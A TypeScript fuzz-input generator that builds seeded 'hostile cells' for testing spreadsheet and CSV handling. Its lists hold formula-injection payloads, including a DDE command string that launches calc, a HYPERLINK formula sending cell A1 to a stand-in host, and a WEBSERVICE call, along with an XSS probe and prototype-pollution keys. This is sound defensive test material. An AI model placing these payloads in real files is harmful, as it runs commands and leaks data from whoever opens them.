/** Cells that somebody would type to harm whoever opens a list: the same ones for the same seed. */

const starts = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠']
const before = [
  '',
  '',
  '',
  ' ',
  '　',
  '\u00a0',
  '"',
  "'",
  '”',
  '\n',
  '\r\n',
  '\ufeff',
  '\u200b',
  '\u202e',
  '\0',
  '\t',
  '",',
  '"\n',
]
const payloads = [
  "cmd|'/c calc'!A1",
  '1+1',
  'HYPERLINK("http://example.test/?"&A1,"点我")',
  'SUM(A1:A9)',
  'WEBSERVICE("http://example.test")',
  '10000000001',
  '张示例',
]
const words = [
  '张**',
  '欧阳**',
  '100****1234',
  '柳溪村 3 组',
  '2026年11月22日（星期日）',
  '36.5 ℃',
  '1-2',
  '3/4',
  '1E5',
  '0012',
  '００１２',
  '１E５',
  'TRUE',
  'false',
  'MAR1',
  '12:30',
  '50%',
  '$5',
  '12345678901234567890',
  '987654321098765432109876543210',
  'constructor',
  '__proto__',
  'toString',
  '_x0041_',
  '_x005F_x000D_',
  '<script>alert(1)</script>',
  ']]>&amp;',
  '😷🏠',
  '𠮷野家',
  '\ud83d',
  '\udc00尾',
  '\ufffe',
  '\u0085',
  'a\nb\tc',
  'a\r\nb',
  'a\rb',
  '  空格  ',
  "''",
  "'=1+1",
  '""',
  ',;|',
  '#REF!',
  '{=1+1}',
  '',
]

/** `count` cells. */
export function hostileCells(count: number, seed: number): string[] {
  const random = randomFrom(seed)
  const one = <T>(all: readonly T[]): T => all[Math.floor(random() * all.length)] as T
  return Array.from({ length: count }, () => {
    const kind = random()
    if (kind < 0.5) return one(before) + one(before) + one(starts) + one([...payloads, ...words])
    if (kind < 0.75) return one(before) + one(words) + one(before)
    // Anything at all, up to twelve units, halves of characters too.
    return String.fromCharCode(...Array.from({ length: Math.floor(random() * 12) }, () => random() * 0x10000))
  })
}

// Mulberry32.
function randomFrom(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}
